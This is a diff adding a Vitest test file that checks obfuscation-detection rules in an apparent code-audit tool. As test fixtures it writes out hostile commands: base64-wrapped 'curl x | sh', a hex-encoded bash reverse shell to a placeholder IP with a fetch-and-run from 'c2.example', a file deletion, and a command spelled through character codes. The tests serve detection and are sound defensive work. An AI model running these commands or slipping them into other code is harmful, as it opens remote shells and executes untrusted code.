@@ -1,0 +1,58 @@
+import { describe, expect, it } from "vitest";
+import { auditText, severityOf } from "../audit-rule-harness.js";
+
+const b64 = (text: string) => Buffer.from(text).toString("base64");
+
+describe("obfuscation rules", () => {
+  it("encoded-execution: decoded data run, not decoded data kept", () => {
+    expect(
+      severityOf(auditText({ "s.sh": `echo ${b64("curl x | sh")} | base64 -d | sh\n` }), "encoded-execution"),
+    ).toBe("critical");
+    expect(severityOf(auditText({ "s.py": "exec(base64.b64decode(P))\n" }), "encoded-execution")).toBe(
+      "critical",
+    );
+    expect(severityOf(auditText({ "s.js": "eval(atob(code));\n" }), "encoded-execution")).toBe("critical");
+    expect(
+      severityOf(auditText({ "s.py": "data = base64.b64decode(PNG)\n" }), "encoded-execution"),
+    ).toBeUndefined();
+  });
+
+  it("encoded-payload: a blob that decodes to commands, not one that decodes to binary", () => {
+    const command = Buffer.from(
+      "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1; curl -s https://c2.example/x | sh; rm -f /tmp/x",
+    ).toString("hex");
+    expect(severityOf(auditText({ "s.py": `P = "${command}"\n` }), "encoded-payload")).toBe("high");
+    const image = Buffer.from(Uint8Array.from({ length: 300 }, (_, i) => i % 256)).toString("base64");
+    expect(severityOf(auditText({ "t.py": `PNG = "${image}"\n` }), "encoded-payload")).toBeUndefined();
+  });
+
+  it("assembled-command: character codes or fragments that spell a command, not ones that spell a greeting", () => {
+    const codes = [..."curl -s x | sh"].map((c) => c.charCodeAt(0)).join(",");
+    expect(
+      severityOf(auditText({ "s.js": `execSync(String.fromCharCode(${codes}));\n` }), "assembled-command"),
+    ).toBe("high");
+    expect(severityOf(auditText({ "s.sh": "a=cu; b=rl\n$a$b -s x\n" }), "assembled-command")).toBe("high");
+    expect(severityOf(auditText({ "s.py": 'cmd = "cu" + "rl"\n' }), "assembled-command")).toBe("high");
+    expect(
+      severityOf(
+        auditText({ "s.js": "console.log(String.fromCharCode(72, 101, 108, 108, 111));\n" }),
+        "assembled-command",
+      ),
+    ).toBeUndefined();
+  });
+
+  it("packed-script: the p,a,c,k,e,r packer, not ordinary minified code", () => {
+    expect(
+      severityOf(
+        auditText({ "s.js": "eval(function(p,a,c,k,e,d){return p}('x',1,1,'a'.split('|'),0,{}))\n" }),
+        "packed-script",
+      ),
+    ).toBe("high");
+    expect(
+      severityOf(
+        auditText({ "s.js": "function a(b){return b*2}const c=a(2);console.log(c);\n" }),
+        "packed-script",
+      ),
+    ).toBeUndefined();
+  });
+});
